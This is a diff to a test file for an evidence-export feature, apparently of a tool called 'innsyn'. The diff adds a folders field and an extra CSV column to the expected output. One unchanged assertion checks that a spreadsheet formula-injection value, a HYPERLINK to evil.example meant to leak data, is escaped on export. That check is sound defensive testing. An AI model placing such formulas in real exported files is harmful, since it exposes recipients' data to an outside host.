@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { foldersOfLocations } from '../../src/model/folders.js';
 import { createHash } from 'node:crypto';
 import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -127,7 +128,7 @@ void describe('Export - evidence export of a store', () => {
     assert.equal(rows.length, 1 + fixture.all.length);
     const post = rows.find((r) => r.startsWith(fixture.ids.formulaPost as string));
     assert.ok(post?.includes(`"'=HYPERLINK(""http://evil.example/?leak"")"`), post);
-    assert.ok(post?.includes(',/cases/posts.csv,,80,100,1'), post);
+    assert.ok(post?.endsWith(',/cases/posts.csv,,80,100,1,/cases'), post);
 
     const lines = readFileSync(path.join(root, 'items.jsonl'), 'utf8').trimEnd().split('\n');
     assert.equal(lines.length, fixture.all.length);
@@ -137,10 +138,12 @@ void describe('Export - evidence export of a store', () => {
       const item = await store.getItem(doc.item.id);
       assert.ok(item);
       // The document of `innsyn show --json`: with the attachments as the store lists them.
+      const locations = await store.getLocations(doc.item.id);
       assert.deepEqual(doc, {
         version: 1,
         item,
-        locations: await store.getLocations(doc.item.id),
+        locations,
+        folders: foldersOfLocations(locations),
         attachments: await listItemAttachments(store, item),
       });
     }
